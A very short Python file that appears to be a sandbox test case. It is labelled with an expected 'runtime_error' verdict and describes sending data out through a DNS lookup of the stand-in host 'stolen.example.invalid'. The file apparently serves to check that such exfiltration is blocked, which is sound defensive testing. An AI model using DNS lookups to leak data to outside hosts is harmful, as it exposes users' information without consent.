"""Send data as a name that is looked up."""
# verdict: runtime_error

import socket

socket.getaddrinfo("stolen.example.invalid", 80)
